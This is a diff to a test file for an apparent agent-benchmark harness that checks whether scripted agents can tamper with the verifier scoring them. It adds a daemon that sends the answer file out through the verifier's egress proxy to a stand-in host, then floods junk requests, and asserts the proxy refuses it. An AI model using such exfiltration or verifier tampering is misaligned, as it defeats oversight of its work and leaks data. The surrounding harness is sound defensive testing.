@@ -18,7 +18,9 @@ import { deepEqual, equal, ok } from "node:assert/strict";
 import { Buffer } from "node:buffer";
 import { buildImages } from "../runner/docker/build_images.ts";
 import { requireDockerEngine } from "./_docker_engine.ts";
-import { cli, freezeCli, runCli } from "./_cli_run.ts";
+import { cliCommand, freezeCli } from "./_cli_run.ts";
+import { startPackageServer } from "./_package_server.ts";
+import { EGRESS_RESOLVE_VARIABLE } from "../runner/egress/egress_resolve.ts";
 import { loadLedger } from "../inputs/ledger.ts";
 import { removeTree } from "../runner/sandbox/remove_tree.ts";
 import { BASH_STAND_IN, buildPythonBase, writeSuite } from "./_python_toolchain.ts";
@@ -43,8 +45,11 @@ function task(python: string): Record<string, string> {
     "answer/solution/solve.sh": "#!/bin/sh\necho 42 > /app/answer.txt\n",
     "answer/tests/test_answer.py":
       "assert open('/app/answer.txt').read().strip() == '42', 'wrong answer'\n",
+    "answer/tests/fetch.py":
+      "import urllib.request\nurllib.request.urlopen('http://pkg.test/hello.txt').read()\n",
     "answer/tests/test.sh": [
       "#!/bin/bash",
+      "python3 /tests/fetch.py",
       "sleep 0.5",
       "if python3 /tests/test_answer.py; then echo 1 > /logs/verifier/reward.txt; " +
       "else echo 0 > /logs/verifier/reward.txt; fi",
@@ -135,6 +140,21 @@ function routes(preloadLibrary: Uint8Array): Record<string, string> {
     ),
     // A daemon that listens (so it is kept running) and kills the verifier: a scored failure.
     "kept-killer": listeningDaemon(9002, KILL_TEST_SH),
+    // A daemon that listens (so it is kept running) and uses the verifier's egress proxy while
+    // the tests run: it sends the workspace out, then 1,100 junk requests.
+    "kept-egress": listeningDaemon(
+      9003,
+      [
+        "if os.path.exists('/tests/test.sh') and not os.path.exists('/tmp/sent'):",
+        "    open('/tmp/sent', 'w').close()",
+        "    for i in range(1101):",
+        "        c = socket.create_connection(('127.0.0.1', 3128), timeout=2)",
+        "        path = '/exfil?' + open('/app/answer.txt').read().strip() if i == 0 else '/junk'",
+        "        c.sendall(f'GET http://pkg.test{path} HTTP/1.1\\r\\n\\r\\n'.encode())",
+        "        c.recv(4096)",
+        "        c.close()",
+      ].join("\n"),
+    ),
   };
 }
 
@@ -162,6 +182,14 @@ Deno.test({
     await buildImages();
     const python = await buildPythonBase();
     const dir = await Deno.makeTempDir({ prefix: "ledgerbench-shared-attacks-" });
+    // pkg.test, the one host the verifier may reach, is a loopback server.
+    const server = await startPackageServer({ files: { "pkg.test/hello.txt": "hello\n" } });
+    const env = { [EGRESS_RESOLVE_VARIABLE]: `pkg.test:80=127.0.0.1:${server.port}` };
+    const cli = async (...args: string[]) => {
+      const out = await cliCommand(args, { env }).output();
+      const text = (bytes: Uint8Array) => new TextDecoder().decode(bytes);
+      return { code: out.code, stdout: text(out.stdout), stderr: text(out.stderr) };
+    };
     try {
       await writeSuite(`${dir}/harbor`, task(python));
       const imported = await cli(
@@ -171,10 +199,13 @@ Deno.test({
         `${dir}/harbor`,
         "--out",
         `${dir}/suite`,
+        "--verifier-allow-host",
+        "pkg.test",
       );
       equal(imported.code, 0, imported.stderr);
       const check = await cli("suite", "check", `${dir}/suite`);
       equal(check.code, 0, check.stderr + check.stdout);
+      server.requests.length = 0;
 
       const attacks = routes(await exitZeroLibrary(dir));
       const agents = Object.fromEntries(
@@ -187,15 +218,24 @@ Deno.test({
         rules: [],
         default: { content: "```sh\necho 41 > /app/answer.txt\n" + shell + "\n```\n" },
       });
-      const run = await runCli(
-        { plan: `${dir}/plan.json`, suite: `${dir}/suite`, ledger: `${dir}/ledger.jsonl` },
-        {
-          honest: {
-            ...answer(""),
-            default: { content: "```sh\necho 42 > /app/answer.txt\n```\n" },
-          },
-          ...Object.fromEntries(Object.entries(attacks).map(([id, shell]) => [id, answer(shell)])),
-        },
+      const scripts: Record<string, unknown> = {
+        honest: { ...answer(""), default: { content: "```sh\necho 42 > /app/answer.txt\n```\n" } },
+        ...Object.fromEntries(Object.entries(attacks).map(([id, shell]) => [id, answer(shell)])),
+      };
+      const scriptFlags: string[] = [];
+      for (const [agent, script] of Object.entries(scripts)) {
+        await Deno.writeTextFile(`${dir}/${agent}.script.json`, JSON.stringify(script));
+        scriptFlags.push("--provider-script", `${agent}=${dir}/${agent}.script.json`);
+      }
+      const run = await cli(
+        "run",
+        "--plan",
+        `${dir}/plan.json`,
+        "--suite",
+        `${dir}/suite`,
+        "--ledger",
+        `${dir}/ledger.jsonl`,
+        ...scriptFlags,
       );
       equal(run.code, 0, run.stderr);
       const { rows } = await loadLedger(`${dir}/ledger.jsonl`);
@@ -258,7 +298,24 @@ Deno.test({
       const keptKiller = byAgent.get("kept-killer")!;
       deepEqual(outcome("kept-killer"), scored(false));
       ok(/failed checks: verifier_disrupted/.test(keptKiller.notes ?? ""), keptKiller.notes ?? "");
+      // Kept, and uses the verifier's proxy: without the test run's password it is refused, and
+      // the row counts the verifier's own request only; nothing of the workspace left.
+      deepEqual(outcome("kept-egress"), scored(false));
+      // (preload and symlink left no working python3 to fetch with.)
+      const fetched = (id: string) => id !== "preload" && id !== "symlink";
+      for (const row of rows) {
+        deepEqual(
+          [row.verification?.egress_allowed, row.verification?.egress_denied],
+          [fetched(row.agent_id) ? 1 : 0, 0],
+          row.agent_id,
+        );
+      }
+      deepEqual(
+        server.requests.map((r) => r.path),
+        rows.filter((r) => fetched(r.agent_id)).map(() => "/hello.txt"),
+      );
     } finally {
+      await server.close();
       await removeTree(dir);
     }
   },
